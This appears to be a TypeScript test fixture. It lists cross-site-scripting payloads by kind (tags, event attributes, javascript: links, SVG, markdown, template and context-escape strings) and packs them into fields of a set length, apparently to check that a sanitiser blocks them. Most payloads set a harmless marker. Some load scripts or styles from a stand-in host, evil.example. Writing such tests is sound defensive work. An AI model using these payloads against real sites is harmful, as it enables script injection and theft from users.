/** Each tries to run `window.__hit = 1` in its own way, or to bring in an element that could. By kinds, so that one that is missing is seen. */
const kinds: Record<string, string[]> = {
  tags: [
    '<script>window.__hit=1</script>',
    '<ScRiPt>window.__hit=1</sCrIpT>',
    '<script src=data:text/javascript,window.__hit=1></script>',
    '<script src=//evil.example/x.js></script>',
    '<scr<script>ipt>window.__hit=1</scr</script>ipt>',
    '<iframe src=javascript:parent.__hit=1></iframe>',
    '<iframe srcdoc="<script>parent.__hit=1</script>"></iframe>',
    '<object data=javascript:window.__hit=1></object>',
    '<embed src=javascript:window.__hit=1>',
    '<base href=//evil.example/>',
    '<meta http-equiv=refresh content="0;url=javascript:window.__hit=1">',
    '<link rel=stylesheet href=//evil.example/x.css>',
    '<form action=javascript:window.__hit=1><button>Нажмите</button></form>',
    '<template><script>window.__hit=1</script></template>',
  ],
  attributes: [
    '<img src=x onerror=window.__hit=1>',
    '"><img src=x onerror=window.__hit=1>',
    '" autofocus onfocus="window.__hit=1',
    "'><img src=x onerror=window.__hit=1>",
    "' onmouseover='window.__hit=1",
    '<body onload=window.__hit=1>',
    '<input autofocus onfocus=window.__hit=1>',
    '<details open ontoggle=window.__hit=1>',
    '<video><source onerror=window.__hit=1></video>',
    '<a onmouseover=window.__hit=1>Наведите</a>',
    '`onmouseover=window.__hit=1',
    '<div style="background:url(javascript:window.__hit=1)">',
    '<p style="animation:x" onanimationstart=window.__hit=1>',
  ],
  links: [
    '<a href="javascript:window.__hit=1">Ссылка</a>',
    'javascript:window.__hit=1',
    'data:text/html,<script>window.__hit=1</script>',
    '<a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19oaXQ9MTwvc2NyaXB0Pg==">Ссылка</a>',
    '<a href="java&#9;script:window.__hit=1">Ссылка</a>',
  ],
  svg: [
    '<svg onload=window.__hit=1>',
    '<svg><script>window.__hit=1</script></svg>',
    '<svg><a xlink:href="javascript:window.__hit=1"><text>Текст</text></a></svg>',
    '<svg><animate onbegin=window.__hit=1 attributeName=x>',
    '<math><mtext><img src=x onerror=window.__hit=1></mtext></math>',
  ],
  markdown: [
    '[Ссылка](javascript:window.__hit=1)',
    '[Ссылка](JaVaScRiPt:window.__hit=1)',
    '[Ссылка](data:text/html,<script>window.__hit=1</script>)',
    '[Ссылка](&#106;avascript:window.__hit=1)',
    '[Ссылка](java\tscript:window.__hit=1)',
    '![Картинка](javascript:window.__hit=1)',
    '![Картинка](//evil.example/p.png)',
    '![x" onerror="window.__hit=1](/files/0123456789abcdef/a.png)',
    '[Ссылка](https://e.example "onmouseover=window.__hit=1")',
    '<javascript:window.__hit=1>',
    '`<script>window.__hit=1</script>`',
    '[@Имя" onclick="window.__hit=1](/people/x)',
  ],
  templates: [
    '{{constructor.constructor("window.__hit=1")()}}',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is meant as it stands
    '${window.__hit=1}',
    '<%= window.__hit=1 %>',
    '#{window.__hit=1}',
  ],
  // What may swallow the rest of a text stands at its end.
  endings: [
    '--><script>window.__hit=1</script>',
    '</textarea><script>window.__hit=1</script>',
    '</title><script>window.__hit=1</script>',
    ']]><script>window.__hit=1</script>',
    '<!--mine:writeKey null--><script>window.__hit=1</script>',
    '<!-- <img src="--><img src=x onerror=window.__hit=1>">',
    '<noscript><p title="</noscript><img src=x onerror=window.__hit=1>">',
  ],
};

/** The first of each kind, the second of each kind and so on, so that the first words of every field hold all kinds; endings last. */
const inTurn = ({ endings = [], ...others }: Record<string, string[]>): string[] => {
  const lists = Object.values(others);
  const longest = Math.max(...lists.map(({ length }) => length));
  const turns = Array.from({ length: longest }, (_, turn) => lists.flatMap((list) => list.slice(turn, turn + 1)));
  return [...turns.flat(), ...endings];
};

export const vectors: readonly string[] = inTurn(kinds);

/** All vectors in as few texts as fit into a field of that many characters. A vector that is longer than the field is left out. */
export function textsOf(limit: number, between = '\n\n'): string[] {
  const texts: string[] = [];
  let text = '';
  for (const vector of vectors.filter(({ length }) => length <= limit)) {
    if (text && text.length + between.length + vector.length > limit) {
      texts.push(text);
      text = '';
    }
    text = text ? text + between + vector : vector;
  }
  return text ? [...texts, text] : texts;
}
